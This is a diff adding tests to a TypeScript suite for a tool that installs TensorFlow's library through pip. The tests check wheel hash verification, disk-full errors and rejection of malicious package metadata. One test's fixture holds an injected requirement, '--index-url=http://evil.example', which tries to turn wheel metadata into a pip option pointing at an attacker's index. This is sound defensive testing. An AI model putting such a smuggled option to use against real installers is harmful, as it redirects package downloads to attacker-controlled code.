@@ -89,6 +89,30 @@ describe.runIf(process.platform === 'linux')('TensorFlow’s library', () => {
     expect(existsSync(join(library.nvidia!, 'cublas/include'))).toBe(false)
   })
 
+  test('gives pip no requirement that pip would take for an option', async () => {
+    const strange = 'Requires-Dist: --index-url=http://evil.example; extra == "and-cuda"\n'
+    const wheels = { tensorflow: wheelArchive('tf', tensorflowFiles, strange) }
+    const { setup, asked } = await machineWith(wheels, gpu)
+    await expect(obtainLibrary(setup, nothing)).rejects.toThrow(/which is no package/)
+    expect(asked()).not.toContain('evil')
+  })
+
+  test('is not asked what it requires where its SHA-256 is wrong', async () => {
+    const wheels = { tensorflow: wheelArchive('tf', tensorflowFiles, needsCublas) }
+    const { setup, asked } = await machineWith(wheels, gpu)
+    const list = join(temporaryFolder(), 'hashes')
+    writeFileSync(list, `${'0'.repeat(64)}  tensorflow-1-py3-none-any.whl\n`)
+    setup.env.FAME_WHEEL_HASHES = list
+    await expect(obtainLibrary(setup, nothing)).rejects.toThrow(/does not have the SHA-256/)
+    expect(asked()).not.toContain('cublas')
+  })
+
+  test('is not said to be missing where the disk fills while pip runs', async () => {
+    const full = 'case "$*" in *--version) exit 0;; esac; echo "No space left on device"; exit 1'
+    const { setup } = await machineWith({}, { python3: full })
+    await expect(obtainLibrary(setup, { ...nothing, kind: 'cpu' })).rejects.toThrow(/disk is full/)
+  })
+
   test('is the one for the CPU on a machine with a GPU when that is wished', async () => {
     const { setup } = await machineWith(
       { tensorflow_cpu: wheelArchive('tf', tensorflowFiles) },
